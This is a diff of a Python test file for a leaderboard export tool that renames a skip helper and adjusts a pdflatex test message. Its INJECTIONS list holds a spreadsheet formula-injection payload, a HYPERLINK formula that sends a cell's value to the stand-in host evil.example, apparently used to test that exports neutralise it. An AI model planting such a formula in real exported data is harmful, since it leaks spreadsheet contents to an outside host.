@@ -20,11 +20,11 @@ from html.parser import HTMLParser
 
 import numpy as np
 import pytest
+from conftest import skip_or_fail
 
 from averitec_tools.leaderboard.competition import parse_competition
 from averitec_tools.leaderboard.export import export
 from averitec_tools.leaderboard.ranking import Entry, assign_tiers
-from tests._leaderboard_helpers import require_or_skip
 
 INJECTIONS = [
     "=HYPERLINK(\"http://evil.example/?x=\"&A1, \"click\")",
@@ -127,7 +127,7 @@ def test_latex_table_has_no_blank_line_or_control_character() -> None:
 def test_latex_export_compiles_with_pdflatex(tmp_path) -> None:
     pdflatex = shutil.which("pdflatex")
     if pdflatex is None:
-        require_or_skip("pdflatex (apt-get install --no-install-recommends texlive-latex-base)")
+        skip_or_fail("pdflatex not found (apt-get install --no-install-recommends texlive-latex-base)")
     doc = tmp_path / "board.tex"
     # booktabs' rules as plain \hline: texlive-latex-base has no booktabs, and the rules are not what is tested
     doc.write_text("\\documentclass{article}\n\\usepackage[T1]{fontenc}\n\\usepackage[utf8]{inputenc}\n"
